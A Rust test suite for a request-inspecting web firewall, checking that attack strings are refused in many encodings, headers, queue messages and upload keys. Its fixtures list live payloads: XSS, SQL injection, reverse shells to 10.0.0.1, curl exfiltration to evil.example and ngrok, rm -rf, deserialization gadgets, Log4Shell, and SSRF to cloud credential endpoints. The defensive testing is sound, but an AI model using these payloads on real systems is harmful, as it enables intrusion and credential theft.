//! What attackers send is refused, however it is wrapped.
use super::*;

const SCRIPTS: &[&str] = &[
    "<script>alert(1)</script>",
    "\"><script src=https://evil.example/x.js></script>",
    "<img src=x onerror=alert(document.cookie)>",
    "<svg/onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<body onload=alert('x')>",
    "<details open ontoggle=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
];
const STATEMENTS: &[&str] = &[
    "' OR '1'='1",
    "' OR 1=1 --",
    "1 UNION SELECT username, password FROM users",
    "'; DROP TABLE orders; --",
    "1; WAITFOR DELAY '0:0:5'--",
    "' AND SLEEP(5) AND 'a'='a",
    "admin'--",
    "x' UNION ALL SELECT NULL,NULL,NULL--",
    "1' OR pg_sleep(5)--",
    "') OR ('a'='a",
];
const COMMANDS: &[&str] = &[
    "; cat /etc/passwd",
    "x; curl http://evil.example/$(whoami)",
    "$(curl -s https://evil.example/x | sh)",
    "`wget http://evil.example/x`",
    "a && rm -rf /",
    "| nc -e /bin/sh 10.0.0.1 4444",
    "x;bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'",
    "file.txt;printenv",
    "$(id)",
    "|| whoami",
];
const OBJECTS: &[&str] = &[
    "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
    "_$$ND_FUNC$$_function (){}()",
    "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==",
    "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}",
    "!!python/object/apply:os.system [\"id\"]",
    "cos\nsystem\n(S'id'\ntR.",
];
const PATHS: &[&str] = &[
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "/proc/self/environ",
    "file:///etc/passwd",
    "....//....//etc/passwd",
];
const REQUESTS: &[&str] = &[
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://metadata.google.internal/computeMetadata/v1/",
    "http://2852039166/latest/meta-data/",
    "gopher://127.0.0.1:6379/_FLUSHALL",
];
const TEMPLATES: &[&str] = &[
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "<%= system('id') %>",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
];

fn wrapped(text: &str) -> Vec<(&'static str, Value)> {
    let encoded: String = text.bytes().map(|byte| format!("%{byte:02X}")).collect();
    let inner = json!({ "note": text }).to_string();
    let escaped: String = format!(
        "{{\"note\":\"{}\"}}",
        text.chars().map(|c| format!("\\u{:04x}", c as u32)).collect::<String>()
    );
    let mut raw = v2("POST", "/x", "", &Value::Null);
    raw["body"] = escaped.clone().into();
    let mut odd_type = raw.clone();
    odd_type["headers"]["content-type"] = "text/plain".into();
    let mut coded = raw.clone();
    coded["body"] = access::encode::base64(inner.as_bytes()).into();
    coded["isBase64Encoded"] = true.into();
    let mut form = v2("POST", "/x", "", &Value::Null);
    form["headers"]["content-type"] = "application/x-www-form-urlencoded".into();
    form["body"] = format!("note={encoded}").into();
    vec![
        ("body", v2("POST", "/x", "", &json!({ "data": { "note": text } }))),
        ("escaped", raw),
        ("text/plain", odd_type),
        ("base64", coded),
        ("form", form),
        ("query", v2("GET", "/x", &format!("note={encoded}"), &Value::Null)),
        ("nested", v2("POST", "/x", "", &json!({ "payload": inner }))),
        (
            "nested twice",
            v2("POST", "/x", "", &json!({ "payload": json!({ "inner": escaped }).to_string() })),
        ),
        ("queue", sqs(&[&inner])),
        (
            "topic in a queue",
            sqs(&[&json!({ "Type": "Notification", "TopicArn": "arn:aws:sns:x", "Message": escaped })
                .to_string()]),
        ),
        ("topic", sns(&inner)),
        ("bus", bus(json!({ "note": text }))),
        ("stream", stream(text)),
        ("direct", json!({ "note": text })),
    ]
}

#[test]
fn attacks_are_refused_in_every_wrapping() {
    let inspector = plain(json!({}));
    let mut wrong = String::new();
    let mut count = 0;
    let all = [SCRIPTS, STATEMENTS, COMMANDS, OBJECTS, PATHS, REQUESTS, TEMPLATES].concat();
    for text in all {
        for (wrapping, event) in wrapped(text) {
            count += 1;
            let said = verdict(&inspector, &event);
            if said == "pass" {
                wrong.push_str(&format!("{wrapping}: {text:?}\n"));
            }
        }
    }
    println!("{count} attacks");
    assert!(wrong.is_empty(), "{wrong}");
}

#[test]
fn operators_of_document_databases_are_refused() {
    let inspector = plain(json!({}));
    for body in [
        json!({"user": {"$ne": null}, "password": {"$ne": null}}),
        json!({"user": {"$gt": ""}}),
        json!({"$where": "this.password.length > 0"}),
        json!({"name": {"$regex": ".*"}}),
    ] {
        assert_ne!(verdict(&inspector, &v2("POST", "/login", "", &body)), "pass", "{body}");
    }
    assert_ne!(
        verdict(&inspector, &v2("GET", "/login", "user%5B%24ne%5D=x&password%5B%24ne%5D=x", &Value::Null)),
        "pass"
    );
}

#[test]
fn polluted_prototypes_are_refused() {
    let inspector = plain(json!({}));
    for body in [
        r#"{"__proto__":{"isAdmin":true}}"#,
        r#"{"a":{"constructor":{"prototype":{"isAdmin":true}}}}"#,
        r#"{"__pro\u0074o__":{"isAdmin":true}}"#,
    ] {
        let mut event = v2("POST", "/x", "", &Value::Null);
        event["body"] = body.into();
        assert_ne!(verdict(&inspector, &event), "pass", "{body}");
    }
}

#[test]
fn objects_and_commands_in_headers_are_refused() {
    let inspector = plain(json!({}));
    for (name, value) in [
        ("authorization", "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"),
        ("x-anything", "_$$ND_FUNC$$_function(){return 1}()"),
        ("x-session", "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ=="),
        ("user-agent", "() { :; }; /bin/bash -c 'id'"),
        ("x-api-version", "${jndi:ldap://evil.example/a}"),
        ("x-file", "a; curl https://evil.example/x"),
    ] {
        let event = v1("{\"action\":\"orders\"}", json!({ name: value }));
        assert_ne!(verdict(&inspector, &event), "pass", "{name}: {value}");
        let text = event.to_string().replace('_', "\\u005f");
        let text = text.replace("source\\u005fIp", "sourceIp");
        assert_ne!(verdict_of(&inspector, text.as_bytes()), "pass", "{name}: {value}");
    }
    let name = json!({ "_$$ND_FUNC$$_function(){}()": "x" });
    assert_ne!(verdict(&inspector, &v1("{}", name)), "pass");
}

#[test]
fn keys_of_objects_are_inspected_decoded() {
    let inspector = plain(json!({}));
    for key in [
        "2020/20/20/null_%3Bcurl+0c971764.ngrok.io%3Fdata%3D%22%24%28ls%29%22%3Becho+x.raw",
        "a%3B+curl+http%3A%2F%2Fevil.example%2Fx.jpg",
        "%24%28id%29.txt",
        "x%60id%60.png",
        "a+%7C+sh+-c+id.txt",
        "..%2F..%2F..%2Fetc%2Fpasswd",
        "x%00.png",
        "a%0Aid.png",
    ] {
        assert_ne!(verdict(&inspector, &s3("uploads", key)), "pass", "{key}");
    }
}

#[test]
fn what_is_too_large_or_too_deep_is_refused() {
    let inspector = plain(json!({"limits": {"event_bytes": 100_000}}));
    let large = v2("POST", "/x", "", &json!({ "a": "x".repeat(200_000) }));
    assert!(verdict(&inspector, &large).starts_with("limit 413 bytes_max"));
    let deep = format!("{}1{}", "[".repeat(500), "]".repeat(500));
    assert!(verdict_of(&inspector, deep.as_bytes()).starts_with("limit 413 depth_max"));
    let mut event = v2("POST", "/x", "", &Value::Null);
    event["body"] = deep.into();
    assert!(verdict(&inspector, &event).starts_with("limit 413"));
    assert!(verdict_of(&inspector, b"{not json").starts_with("limit 400 json"));
    let mut nested = json!({ "a": "<script>alert(1)</script>" }).to_string();
    for _ in 0..8 {
        nested = json!({ "a": nested }).to_string();
    }
    assert_ne!(verdict(&inspector, &sqs(&[&nested])), "pass");
}

#[test]
fn bodies_that_hide_are_refused() {
    let inspector = plain(json!({}));
    let attack = json!({ "note": "<script>alert(1)</script>" }).to_string();
    let mut event = v2("POST", "/x", "", &Value::Null);
    event["body"] = attack.clone().into();
    for kind in [
        "application/json; charset=utf-16",
        "multipart/form-data; boundary=x",
        "application/octet-stream",
        "",
        "application/xml",
    ] {
        event["headers"]["content-type"] = kind.into();
        assert_ne!(verdict(&inspector, &event), "pass", "{kind}");
    }
    let mut bom = event.clone();
    bom["headers"]["content-type"] = "application/json".into();
    bom["body"] = format!("\u{feff}{attack}").into();
    assert_ne!(verdict(&inspector, &bom), "pass");
    let mut after = v2("POST", "/x", "", &Value::Null);
    after["body"] = format!("{attack} trailing").into();
    assert_ne!(verdict(&inspector, &after), "pass");
    let twice = r#"{"rawPath":"/","rawPath":"/x","headers":{},"requestContext":{"http":{"method":"POST"}},"body":"{\"a\":\"<script>alert(1)</script>\"}","body":"{}"}"#;
    assert_ne!(verdict_of(&inspector, twice.as_bytes()), "pass");
}

#[test]
fn detect_mode_tells_and_passes() {
    let (inspector, heard) = made(json!({"mode": "detect"}), json!({}), &[]);
    let event = v2("POST", "/x", "", &json!({ "note": "<script>alert(1)</script>" }));
    assert_eq!(verdict(&inspector, &event), "pass");
    assert_eq!(heard.take(), ["rules 7710040 Told"]);
    let (inspector, heard) = made(json!({"mode": "off"}), json!({}), &[]);
    assert_eq!(verdict(&inspector, &event), "pass");
    assert!(heard.take().is_empty());
}

#[test]
fn exclusions_and_rules_of_the_policy_count() {
    let event = v2("POST", "/x", "", &json!({ "note": "<script>alert(1)</script>" }));
    let (inspector, _) = made(json!({"exclusions": {"7710040": "an editor of pages"}}), json!({}), &[]);
    assert_eq!(verdict(&inspector, &event), "pass");
    let own = json!({"rules": {"files": [["own.conf", "SecRule ARGS \"@contains forbidden\" \"id:1000,phase:2,deny,status:403,msg:'A word'\"\n"]]}});
    let (inspector, _) = made(json!({}), own, &[]);
    let said = verdict(&inspector, &v2("POST", "/x", "", &json!({ "note": "a forbidden word" })));
    assert!(said.starts_with("rules 403 1000: A word"), "{said}");
}
